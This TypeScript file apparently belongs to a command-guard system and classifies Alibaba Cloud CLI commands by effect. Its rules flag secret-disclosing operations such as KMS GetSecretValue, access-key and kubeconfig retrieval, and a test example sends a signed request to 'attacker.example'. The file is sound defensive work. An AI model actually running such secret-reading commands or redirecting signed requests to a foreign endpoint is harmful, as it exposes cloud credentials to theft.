import { defineTool, discloses, flags, unlike, values } from "../tool.ts";
import type { Judging } from "./_command-trees.ts";
import { judgeLeadingWords } from "./_leading-words.ts";

/** The second word is the API's operation, in capitals, or a verb of the `oss` tool. */
const judging: Judging = {
  rules: [
    [
      "disclose secret",
      `
      sts *
      kms GetSecretValue
      kms Decrypt
      kms GenerateDataKey*
      * *Password*
      * *Credential*
      * *AccessKey*
      * *AuthToken*
      * *AuthorizationToken*
      * GetAuthorization*
      * *Kubeconfig*
      cs GET /k8s/*
      * DescribeClusterUserKubeconfig
      * *VncUrl*
      * *PresignedUrl*
      * *SignedUrl*
      oss sign
      ecs DescribeUserData
      oss presign
      `,
    ],
    [
      "read database-rows",
      "oss cat\nots *\n* GetObject\n* *GetLogs\n* QueryMessage*\n* ListUsers\n* GetUser\n* *GetRow*\ndms-enterprise *\n* Execute*\n",
    ],
    ["write file", "oss cp\n"],
    ["read cloud-resource", "oss ls\noss stat\noss du\noss help\nconfigure list\nconfigure get\nversion\nhelp\nplugin list\n"],
    ["write configuration", "configure*\nauto-completion\nplugin *\n"],
  ],
  reads: /^(?:Describe|List|Get|Query|Search|Check|Count|Lookup)(?=[A-Z]|$)\w*$/,
  clusters: /^cs Delete/,
};

export default defineTool({
  name: "aliyun",
  source: "Alibaba Cloud CLI 3.0 documentation, github.com/aliyun/aliyun-cli",
  optionsOnlyRead: true,
  options: {
    ...flags("--secure --insecure --force --quiet --dryrun --cli-ai-mode -h|--help"),
    ...values(
      "-p|--profile --region --RegionId --mode --access-key-id --access-key-secret --sts-token --config-path --read-timeout --connect-timeout --retry-count --version --language --cli-query --output --pager --waiter",
    ),
    "--endpoint": {
      takes: "value",
      does: [
        discloses("secret:signed request for {--endpoint}", unlike("--endpoint", /^(?:https:\/\/)?(?:[\w-]+\.)*aliyuncs\.com(?:\/|$)/)),
      ],
    },
  },
  operands: ["word*"],
  target: { family: "cloud", values: { provider: "aliyun", profile: "{--profile}" } },
  // A name of an operation, a verb of `oss` with its addresses, or a setting; anything else is a path of a REST interface.
  derive: judgeLeadingWords(judging, (path) => (path.length <= 2 || path[0] === "oss" || path[0] === "configure" ? 2 : -1)),
  examples: {
    allow: [
      "aliyun",
      "aliyun ecs DescribeInstances --RegionId cn-hangzhou",
      "aliyun -p prod rds DescribeDBInstances",
      "aliyun configure list",
      "aliyun oss ls oss://b",
      "aliyun ecs DescribeRegions --endpoint ecs.aliyuncs.com",
    ],
    guard: {
      "aliyun --profile ls --region ls --RegionId ls --mode ls --access-key-id ls --access-key-secret ls --sts-token ls --config-path ls --read-timeout 1 --connect-timeout 1 --retry-count 1 --version ls --language ls --cli-query ls --output ls --pager ls --waiter ls ecs DeleteInstance --InstanceId DescribeX":
        ["write cloud-resource:ecs DeleteInstance DescribeX"],
      "aliyun ecs StopInstance --InstanceId i": ["write cloud-resource:ecs StopInstance i"],
      "aliyun kms GetSecretValue --SecretName x": ["disclose secret:kms GetSecretValue x"],
      "aliyun configure set --region x": ["write configuration:configure set x"],
      "aliyun oss rm oss://b/x": ["delete cloud-resource:oss rm oss://b/x"],
      "aliyun ecs DescribeRegions --endpoint attacker.example": ["disclose secret:signed request for attacker.example"],
    },
    doubt: { "aliyun ecs $X": "dynamic-word", "aliyun cs DELETE /clusters/1": "unknown-command" },
  },
});
